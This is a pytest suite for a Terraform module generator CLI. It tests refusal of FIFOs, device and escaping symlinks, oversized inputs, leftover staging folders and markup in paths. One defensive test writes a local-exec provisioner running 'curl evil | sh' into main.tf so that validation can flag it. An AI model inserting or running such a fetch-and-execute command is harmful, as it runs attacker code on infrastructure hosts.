"""Files and folders as an attacker with a pull request would use them, and user text in output.

Each case runs in-process (CliRunner) and, where a hang or a crash of the interpreter is the
risk, as a real process with a timeout. Nothing here may leave a traceback, write outside the
module, or hang.
"""

from __future__ import annotations

import errno
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from generator.cli import cli
from tests.conftest import example_data

TFGEN = [sys.executable, "-m", "generator.cli"]


def run(*args: str, cwd: Path | None = None, timeout: float = 60):
    return subprocess.run(
        [*TFGEN, *args], capture_output=True, text=True, cwd=cwd, timeout=timeout, check=False
    )


def invoke(*args: str):
    return CliRunner().invoke(cli, list(args))


def answers_file(folder: Path, name: str = "m", **changes) -> Path:
    data = {**example_data(), "name": name, **changes}
    path = folder / f"{name}.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


def rendered(tmp_path: Path, name: str = "m") -> Path:
    out = tmp_path / "modules" / name
    result = invoke("render", str(answers_file(tmp_path, name)), "-o", str(out), "--no-scan")
    assert result.exit_code == 0, result.output
    return out


def one_line_error(result_stderr: str) -> None:
    assert "Traceback" not in result_stderr
    assert len(result_stderr.strip().splitlines()) == 1, result_stderr


# --- only regular files are read, size checked first ------------------------------------------


def test_a_fifo_as_answers_is_exit_2_at_once(tmp_path: Path):
    fifo = tmp_path / "answers.yaml"
    os.mkfifo(fifo)
    done = run("render", str(fifo), "-o", str(tmp_path / "out"), "--no-scan", timeout=30)
    assert done.returncode == 2, done.stderr
    assert "not a regular file" in done.stderr
    one_line_error(done.stderr.split("\n", 1)[1])


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/null"])
def test_a_symlink_to_a_device_as_answers_is_exit_2(tmp_path: Path, device: str):
    link = tmp_path / "answers.yaml"
    link.symlink_to(device)
    done = run("render", str(link), "-o", str(tmp_path / "out"), "--no-scan", timeout=30)
    assert done.returncode == 2 and "not a regular file" in done.stderr, done.stderr
    result = invoke("render", str(link), "-o", str(tmp_path / "out"), "--no-scan")
    assert result.exit_code == 2 and "not a regular file" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_huge_answers_file_is_refused_by_its_size_before_reading(tmp_path: Path):
    huge = tmp_path / "answers.yaml"
    with open(huge, "wb") as handle:
        handle.truncate(8 * 1024**3)  # sparse: 8 GiB that would not fit in memory
    done = run("render", str(huge), "-o", str(tmp_path / "out"), "--no-scan", timeout=30)
    assert done.returncode == 2 and "at most 1000000 bytes" in done.stderr, done.stderr


def test_stdin_is_read_no_further_than_the_size_limit(tmp_path: Path):
    with open("/dev/zero", "rb") as zeros:
        done = subprocess.run(
            [*TFGEN, "render", "-", "-o", str(tmp_path / "out"), "--no-scan"],
            stdin=zeros, capture_output=True, text=True, timeout=60, check=False,
        )  # fmt: skip
    assert done.returncode == 2 and "larger than 1000000 bytes" in done.stderr, done.stderr


def test_a_folder_named_yaml_in_a_batch_fails_alone(tmp_path: Path):
    folder = tmp_path / "answers"
    folder.mkdir()
    answers_file(folder, "good")
    (folder / "trap.yaml").mkdir()
    os.mkfifo(folder / "pipe.yaml")
    (folder / "zero.yaml").symlink_to("/dev/zero")
    done = run(
        "render", str(folder), "-o", str(tmp_path / "out"), "--no-scan", "--format", "json",
        timeout=60,
    )  # fmt: skip
    assert done.returncode == 2, done.stderr
    report = json.loads(done.stdout)
    by_name = {Path(m["source"]).name: m for m in report["modules"]}
    assert by_name["good.yaml"]["exit_code"] == 0
    for bad in ("trap.yaml", "pipe.yaml", "zero.yaml"):
        assert by_name[bad]["exit_code"] == 2
        assert "not a regular file" in by_name[bad]["errors"][0]["message"], by_name[bad]
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["good"]


def test_module_files_that_are_not_regular_are_refused_by_check_and_validate(tmp_path: Path):
    module = rendered(tmp_path)
    os.mkfifo(module / "extra.tf")
    for command in ("check", "validate"):
        done = run(command, str(module), *(["--no-scan"] if command == "validate" else []))
        assert done.returncode in (1, 2), (command, done.stderr)
        assert "extra.tf" in done.stderr + done.stdout and "Traceback" not in done.stderr


# --- never write through a symlink that leaves the module ---------------------------------------


@pytest.fixture
def linked_module(tmp_path: Path) -> tuple[Path, Path]:
    """A rendered module whose example/ is a symlink to a folder outside it."""
    module = rendered(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "main.tf").write_text("precious\n")
    (module / "example" / "main.tf").unlink()
    (module / "example").rmdir()
    (module / "example").symlink_to(outside)
    return module, outside


def test_check_fix_refuses_a_folder_symlink_leaving_the_module(linked_module):
    module, outside = linked_module
    result = invoke("check", str(module), "--fix")
    assert result.exit_code == 2, result.output
    assert "example" in result.stderr and "symbolic link" in result.stderr
    assert (outside / "main.tf").read_text() == "precious\n"
    assert sorted(p.name for p in outside.iterdir()) == ["main.tf"]


def test_render_refuses_a_module_with_a_symlink_leaving_it_even_forced(linked_module, tmp_path):
    module, outside = linked_module
    for force in ([], ["--force"]):
        result = invoke("render", str(tmp_path / "m.yaml"), "-o", str(module), "--no-scan", *force)
        assert result.exit_code == 2, result.output
        assert "symbolic link" in result.stderr
    assert (outside / "main.tf").read_text() == "precious\n"


def test_terraform_working_links_do_not_block_a_render(tmp_path: Path):
    """`terraform init` with a plugin cache links providers from outside the module."""
    module = rendered(tmp_path)
    cache = tmp_path / "plugin-cache"
    cache.mkdir()
    (module / "example" / ".terraform" / "providers").mkdir(parents=True)
    (module / "example" / ".terraform" / "providers" / "aws").symlink_to(cache)
    result = invoke("render", str(tmp_path / "m.yaml"), "-o", str(module), "--no-scan")
    assert result.exit_code == 0, result.output
    assert (module / "example" / ".terraform" / "providers" / "aws").is_symlink()
    assert invoke("check", str(module)).exit_code == 0


def test_check_does_not_read_a_file_symlink_leaving_the_module(tmp_path: Path):
    module = rendered(tmp_path)
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET\n")
    (module / "README.md").unlink()
    (module / "README.md").symlink_to(secret)
    result = invoke("check", str(module))
    assert result.exit_code == 2 and "README.md" in result.stderr, result.output
    assert "TOP-SECRET" not in result.output


# --- validate reports what tfgen did not write ---------------------------------------------------


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("extra.tf", 'output "leak" {\n  value = "x"\n}\n'),
        ("main_override.tf", 'resource "aws_vpc_endpoint" "lambda" {\n  policy = null\n}\n'),
    ],
)
def test_validate_reports_files_added_by_hand(tmp_path: Path, name: str, text: str):
    module = rendered(tmp_path)
    (module / name).write_text(text)
    result = invoke("validate", str(module), "--no-scan", "--format", "json")
    assert result.exit_code == 1, result.output
    findings = json.loads(result.stdout)["findings"]
    assert any(f["file"] == name and "not written by tfgen" in f["message"] for f in findings)


def test_validate_reports_a_provisioner_added_to_main_tf(tmp_path: Path):
    module = rendered(tmp_path)
    main = module / "main.tf"
    main.write_text(
        main.read_text()
        + 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n'
        + '    command = "curl evil | sh"\n  }\n}\n'
    )
    result = invoke("validate", str(module), "--no-scan")
    assert result.exit_code == 1, result.output
    assert "main.tf" in result.stderr and "edited" in result.stderr


def test_validate_reports_a_file_that_is_not_utf8(tmp_path: Path):
    module = rendered(tmp_path)
    (module / "variables.tf").write_bytes(b"\xff\xfe not utf-8\n")
    result = invoke("validate", str(module), "--no-scan")
    assert result.exit_code == 1, result.output
    assert "variables.tf" in result.stderr and "UTF-8" in result.stderr
    assert "Traceback" not in result.output


# --- output folders -----------------------------------------------------------------------------


def test_render_dot_inside_the_module_rerenders_it(tmp_path: Path):
    module = rendered(tmp_path)
    (module / "README.md").unlink()
    done = run("render", "tfgen.answers.yaml", "-o", ".", "--no-scan", cwd=module)
    assert done.returncode == 0, done.stderr
    assert (module / "README.md").is_file()
    assert run("check", ".", cwd=module).returncode == 0
    assert not [p for p in module.parent.iterdir() if p.name.startswith(".")]


def test_output_whose_parent_is_a_file_is_one_line_exit_2(tmp_path: Path):
    (tmp_path / "file").write_text("x")
    answers = answers_file(tmp_path)
    done = run("render", str(answers), "-o", str(tmp_path / "file" / "m"), "--no-scan")
    assert done.returncode == 2
    one_line_error(done.stderr)


def test_output_name_over_the_file_system_limit_is_one_line_exit_2(tmp_path: Path):
    answers = answers_file(tmp_path)
    done = run("render", str(answers), "-o", str(tmp_path / ("n" * 300)), "--no-scan")
    assert done.returncode == 2
    one_line_error(done.stderr)


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EROFS])
def test_full_or_read_only_file_system_keeps_the_old_module(tmp_path: Path, monkeypatch, code):
    from generator import write

    module = rendered(tmp_path)
    before = {p.name: p.read_bytes() for p in module.iterdir() if p.is_file()}

    def failing(*args, **kwargs):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(write, "write_files", failing)
    result = invoke("render", str(tmp_path / "m.yaml"), "-o", str(module), "--no-scan")
    assert result.exit_code == 2, result.output
    one_line_error(result.stderr)
    assert os.strerror(code) in result.stderr
    assert {p.name: p.read_bytes() for p in module.iterdir() if p.is_file()} == before
    assert sorted(p.name for p in module.parent.iterdir()) == ["m"]


# --- stale staging folders ----------------------------------------------------------------------


def test_staging_folders_of_a_killed_run_are_removed_by_the_next_run(tmp_path: Path):
    module = rendered(tmp_path)
    parent = module.parent
    # what a SIGKILL leaves: a staged copy, a batch folder, and an old copy mid-swap
    for stale in (".m.tfgen-k1ll3d", ".tfgen-batch-k1ll3d/ready/m", ".other.tfgen-old-k1ll3d"):
        (parent / stale).mkdir(parents=True)
        for item in module.iterdir():
            if item.is_file():
                (parent / stale / item.name).write_bytes(item.read_bytes())
    checked = invoke("check", str(parent), "--format", "json")
    assert checked.exit_code == 0, checked.output
    assert [m["path"] for m in json.loads(checked.stdout)["modules"]] == [str(module)]
    result = invoke("render", str(tmp_path / "m.yaml"), "-o", str(module), "--no-scan")
    assert result.exit_code == 0, result.output
    # the old copy of a module whose folder is gone is put back, the rest removed
    assert sorted(p.name for p in parent.iterdir()) == ["m", "other"]


def test_a_real_sigkill_mid_run_leaves_nothing_after_the_next_run(tmp_path: Path):
    module = rendered(tmp_path)
    answers = tmp_path / "m.yaml"
    code = (
        "import os, signal, sys\n"
        "from generator import write\n"
        "real = write.write_files\n"
        "def killed(folder, files):\n"
        "    real(folder, files)\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
        "write.write_files = killed\n"
        "from generator.cli import cli\n"
        f"cli(['render', {str(answers)!r}, '-o', {str(module)!r}, '--no-scan'])\n"
    )
    killed = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=60)
    assert killed.returncode == -9
    assert any(".tfgen-" in p.name for p in module.parent.iterdir())  # the leftover
    assert invoke("check", str(module.parent)).exit_code == 0
    again = run("render", str(answers), "-o", str(module), "--no-scan")
    assert again.returncode == 0, again.stderr
    assert sorted(p.name for p in module.parent.iterdir()) == ["m"]


# --- check DIR -----------------------------------------------------------------------------------


def test_check_of_a_folder_of_modules_checks_every_module(tmp_path: Path):
    first, second = rendered(tmp_path, "a"), rendered(tmp_path, "b")
    result = invoke("check", str(tmp_path / "modules"), "--format", "json")
    assert result.exit_code == 0, result.output
    assert sorted(m["path"] for m in json.loads(result.stdout)["modules"]) == [
        str(first),
        str(second),
    ]
    (second / "main.tf").write_text("# edited\n")
    assert invoke("check", str(tmp_path / "modules")).exit_code == 1
    empty = tmp_path / "empty"
    empty.mkdir()
    nothing = invoke("check", str(empty))
    assert nothing.exit_code == 2 and "no tfgen modules" in nothing.stderr


# --- user text is never markup -------------------------------------------------------------------


MARKUP = ["[/x]", "d[bold]", "[red]x[/red]", ":x:"]


@pytest.mark.parametrize("text", MARKUP)
def test_paths_with_markup_print_literally(tmp_path: Path, text: str):
    folder = tmp_path / text  # "[/x]" is the folder "[" holding "x]"
    folder.mkdir(parents=True)
    path = folder / "a.yaml"
    path.write_text("version: 1\nname: [unclosed\n")
    for fmt in ("text", "json", "sarif"):
        result = invoke("render", str(path), "-o", str(tmp_path / "o"), "--format", fmt)
        assert result.exit_code == 2, result.output
        assert "Traceback" not in result.output
        if fmt == "text":
            assert str(path) in result.stderr
        else:
            json.loads(result.stdout)


def test_a_tag_key_with_an_emoji_code_prints_literally(tmp_path: Path):
    path = answers_file(tmp_path, tags={"AWS:x": "y"})
    result = invoke("render", str(path), "-o", str(tmp_path / "o"), "--no-scan")
    assert result.exit_code == 2
    assert "tags.AWS:x:" in result.stderr and "\u274c" not in result.stderr


def test_batch_table_prints_markup_in_paths_literally(tmp_path: Path):
    folder = tmp_path / "d[bold]" / "[" / "x]"
    folder.mkdir(parents=True)
    (folder / "bad.yaml").write_text("version: 1\n")
    answers_file(folder, "good")
    result = invoke("render", str(folder), "-o", str(tmp_path / "out"), "--no-scan")
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert "d[bold]/[/x]/bad.yaml" in result.output.replace("\n", "")


# --- the last-resort handler --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["text", "json", "sarif"])
def test_an_unexpected_error_is_one_line_exit_2_and_reports_stay_well_formed(
    tmp_path: Path, monkeypatch, fmt: str
):
    from generator import pipeline

    def broken(*args, **kwargs):
        raise ValueError("something nobody expected\nsecond line")

    monkeypatch.setattr(pipeline, "render_plan", broken)
    path = answers_file(tmp_path)
    result = invoke("render", str(path), "-o", str(tmp_path / "o"), "--no-scan", "--format", fmt)
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    if fmt == "text":
        one_line_error(result.stderr)
        assert "ValueError: something nobody expected" in result.stderr
    else:  # the document on stdout is the whole report
        document = json.loads(result.stdout)
        assert document.get("status") == "error" or document.get("version") == "2.1.0"


def test_an_unexpected_error_in_a_real_process_is_one_line(tmp_path: Path):
    code = (
        "from generator import pipeline\n"
        "def broken(*a, **k):\n"
        "    raise RecursionError('deep')\n"
        "pipeline.render_plan = broken\n"
        "from generator.cli import main\n"
        "import sys\n"
        f"sys.argv = ['tfgen', 'render', {str(answers_file(tmp_path))!r}, '-o', 'o', "
        "'--no-scan', '--format', 'json']\n"
        "main()\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=tmp_path, timeout=60
    )
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    report = json.loads(done.stdout)
    assert report["status"] == "error" and "RecursionError" in report["errors"][0]["message"]


# --- docs, a module's manifest and `tfgen scan DIR` read only regular files -----------------


def test_docs_refuses_a_readme_that_is_a_fifo_at_once(tmp_path: Path):
    module = rendered(tmp_path)
    (module / "README.md").unlink()
    os.mkfifo(module / "README.md")
    done = run("docs", str(module), timeout=30)
    assert done.returncode == 2 and "not a regular file" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr


def test_docs_refuses_a_readme_linked_out_of_the_module(tmp_path: Path):
    module = rendered(tmp_path)
    (module / "README.md").unlink()
    (module / "README.md").symlink_to("/dev/zero")
    result = invoke("docs", str(module))
    assert result.exit_code == 2 and "symbolic link leaving the module" in result.stderr
    assert (module / "README.md").is_symlink()  # left as it was, nothing written through it


def test_a_manifest_that_is_a_fifo_makes_no_module_and_no_hang(tmp_path: Path):
    module = rendered(tmp_path)
    (module / "tfgen.manifest.json").unlink()
    os.mkfifo(module / "tfgen.manifest.json")
    source = answers_file(tmp_path)
    done = run("render", str(source), "-o", str(module), "--no-scan", timeout=30)
    assert done.returncode == 2 and "tfgen module" in done.stderr, done.stderr
    done = run("docs", str(module), timeout=30)
    assert done.returncode == 2 and "not a tfgen module" in done.stderr, done.stderr


def test_scan_refuses_a_terraform_file_that_is_a_fifo_before_checkov_runs(tmp_path: Path):
    from generator.errors import UsageError
    from generator.scan import run_checkov

    folder = tmp_path / "terraform"
    folder.mkdir()
    (folder / "main.tf").write_text('resource "null_resource" "x" {}\n')
    os.mkfifo(folder / "vars.tfvars")
    with pytest.raises(UsageError, match="vars.tfvars is a FIFO"):
        run_checkov([folder], Path("/nonexistent/checkov"))  # refused before it is started
    done = run("scan", str(folder), timeout=120)
    assert done.returncode == 2 and "not a regular file" in done.stderr, done.stderr
